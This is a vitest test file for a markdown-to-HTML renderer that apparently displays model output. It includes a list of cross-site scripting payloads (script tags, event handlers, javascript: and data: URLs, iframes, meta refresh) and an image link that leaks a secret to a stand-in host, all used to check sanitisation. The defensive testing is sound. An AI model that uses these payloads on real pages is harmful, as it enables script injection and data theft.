import { describe, expect, it } from "vitest";
import { markdownToSafeHtml, renderMarkdown } from "../src/markdown";

function dom(markdown: string): HTMLElement {
  const element = document.createElement("div");
  element.append(renderMarkdown(markdown));
  return element;
}

/** Everything that could run code or load something must be gone. */
function expectInert(element: HTMLElement): void {
  expect(element.querySelector("script, iframe, frame, object, embed, svg, math, img, style, link, meta, base, form, video, audio, source, template")).toBeNull();
  for (const node of Array.from(element.querySelectorAll("*"))) {
    for (const attr of Array.from(node.attributes)) {
      expect(attr.name.startsWith("on"), `${node.tagName} ${attr.name}`).toBe(false);
      expect(["style", "src", "srcdoc", "action", "formaction", "xlink:href"]).not.toContain(attr.name);
      if (attr.name === "href") expect(attr.value).toMatch(/^(https?:|mailto:)/i);
    }
  }
}

const ATTACKS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><circle r=1 /></svg>",
  "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
  "<iframe src=\"https://evil.example\"></iframe>",
  "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
  "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
  "<a href=\"javascript:alert(1)\">click</a>",
  "<a href=\"JaVaScRiPt:alert(1)\">click</a>",
  "<a href=\"&#106;avascript:alert(1)\">click</a>",
  "<a href=\"java\tscript:alert(1)\">click</a>",
  "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">click</a>",
  "[click](javascript:alert(1))",
  "[click](JAVASCRIPT:alert(1))",
  "[click](data:text/html,<script>alert(1)</script>)",
  "[click](vbscript:msgbox)",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<div onmouseover=\"alert(1)\">hover</div>",
  "<p style=\"background:url(javascript:alert(1))\">styled</p>",
  "<style>body{background:red}</style>",
  "<object data=\"x.swf\"></object><embed src=\"x.swf\">",
  "<form action=\"javascript:alert(1)\"><button formaction=\"javascript:alert(1)\">go</button></form>",
  "<input autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
  "<base href=\"https://evil.example/\">",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
  "<template><img src=x onerror=alert(1)></template>",
  "![x](https://evil.example/pixel.png?secret=abc)",
  "![x](data:image/png;base64,iVBORw0KGgo=)",
  "<img src=\"https://evil.example/pixel.png\" alt=\"tracking\">",
  "<a href=\"https://ok.example\" onclick=\"alert(1)\">ok</a>",
];

describe("renderMarkdown: safety", () => {
  it.each(ATTACKS)("neutralizes %s", (attack) => {
    expectInert(dom(attack));
    expectInert(dom(`text before\n\n${attack}\n\ntext after`));
    expectInert(dom(`- item ${attack}\n\n> ${attack}`));
  });

  it("shows an image as a link to its URL and never loads it", () => {
    const element = dom("Look: ![a chart](https://example.com/chart.png \"Chart\")");
    expect(element.querySelector("img")).toBeNull();
    const link = element.querySelector("a")!;
    expect(link.getAttribute("href")).toBe("https://example.com/chart.png");
    expect(link.textContent).toBe("a chart");
    expect(link.className).toBe("image_");
    expect(link.getAttribute("rel")).toBe("noopener noreferrer nofollow");
  });

  it("keeps an image with a data: URL as text with no link", () => {
    const element = dom("![pixel](data:image/png;base64,AAAA)");
    const link = element.querySelector("a")!;
    expect(link.hasAttribute("href")).toBe(false);
    expect(link.textContent).toBe("pixel");
  });

  it("opens http(s) links in a new tab without a referrer, and keeps mailto", () => {
    const element = dom("[site](https://example.com/a?b=1) and <mailto:someone@example.com> and https://bare.example");
    const links = Array.from(element.querySelectorAll("a"));
    expect(links.map((a) => a.getAttribute("href"))).toEqual([
      "https://example.com/a?b=1", "mailto:someone@example.com", "https://bare.example",
    ]);
    for (const a of links) {
      expect(a.getAttribute("target")).toBe("_blank");
      expect(a.getAttribute("rel")).toBe("noopener noreferrer nofollow");
    }
  });

  it("drops relative and fragment links (only http, https and mailto survive)", () => {
    const element = dom("[a](/api/conversations) [b](#top) [c](//evil.example/x)");
    for (const a of Array.from(element.querySelectorAll("a"))) expect(a.hasAttribute("href")).toBe(false);
  });

  it("removes classes and data attributes the model could use to fake the page's own controls", () => {
    const element = dom("<div class=\"banner error-banner hljs-keyword\" data-testid=\"retry\" data-action=\"copy-code\">x</div>");
    const div = element.querySelector("div")!;
    expect(div.className).toBe("hljs-keyword");
    expect(div.hasAttribute("data-testid")).toBe(false);
    expect(div.hasAttribute("data-action")).toBe(false);
    expect(element.querySelector("button")).toBeNull();
  });
});

describe("renderMarkdown: formatting", () => {
  it("renders headings, lists, tables, quotes and emphasis", () => {
    const element = dom("# H1\n\n## H2\n\n- a\n- b\n\n1. one\n2. two\n\n| x | y |\n|---|:-:|\n| 1 | 2 |\n\n> quoted\n\n**bold** *it* ~~del~~ `code`");
    expect(element.querySelector("h1")!.textContent).toBe("H1");
    expect(element.querySelector("h2")!.textContent).toBe("H2");
    expect(element.querySelectorAll("ul > li")).toHaveLength(2);
    expect(element.querySelectorAll("ol > li")).toHaveLength(2);
    expect(element.querySelectorAll("table th")).toHaveLength(2);
    expect(element.querySelector("td[align=center]")!.textContent).toBe("2");
    expect(element.querySelector("blockquote")!.textContent!.trim()).toBe("quoted");
    expect(element.querySelector("strong")!.textContent).toBe("bold");
    expect(element.querySelector("em")!.textContent).toBe("it");
    expect(element.querySelector("del")!.textContent).toBe("del");
    expect(element.querySelector("p > code")!.textContent).toBe("code");
  });

  it("highlights code in registered languages and adds a copy button", () => {
    const element = dom("```python\ndef f(x):\n    return x  # done\n```");
    const code = element.querySelector(".code-block pre code")!;
    expect(code.className).toBe("hljs language-python");
    expect(code.querySelector(".hljs-keyword")!.textContent).toBe("def");
    expect(code.querySelector(".hljs-comment")!.textContent).toBe("# done");
    expect(code.textContent).toBe("def f(x):\n    return x  # done\n");
    const button = element.querySelector<HTMLButtonElement>(".code-block [data-action=copy-code]")!;
    expect(button.type).toBe("button");
    expect(button.getAttribute("onclick")).toBeNull();
    expect(element.querySelector(".code-lang")!.textContent).toBe("python");
  });

  it.each(["js", "ts", "sh", "json", "html", "css", "sql", "go", "rust", "java", "cpp", "c", "yaml", "md", "diff"])(
    "knows %s",
    (lang) => {
      const code = dom(`\`\`\`${lang}\nx\n\`\`\``).querySelector("code")!;
      expect(code.className).toBe(`hljs language-${lang}`);
    },
  );

  it("escapes code in an unknown language, and markup inside any code", () => {
    const element = dom("```nosuchlang\n<script>alert(1)</script>\n```");
    expect(element.querySelector("script")).toBeNull();
    expect(element.querySelector("code")!.textContent).toBe("<script>alert(1)</script>\n");
    expect(element.querySelector(".code-lang")!.textContent).toBe("nosuchlang");
  });

  it("renders task lists with read-only boxes", () => {
    const element = dom("- [x] done\n- [ ] todo");
    const boxes = Array.from(element.querySelectorAll("input"));
    expect(boxes).toHaveLength(2);
    expect(boxes.every((b) => b.type === "checkbox" && b.disabled)).toBe(true);
    expect(boxes[0].checked).toBe(true);
  });

  it("turns single newlines into line breaks", () => {
    expect(markdownToSafeHtml("one\ntwo")).toContain("<br>");
  });
});
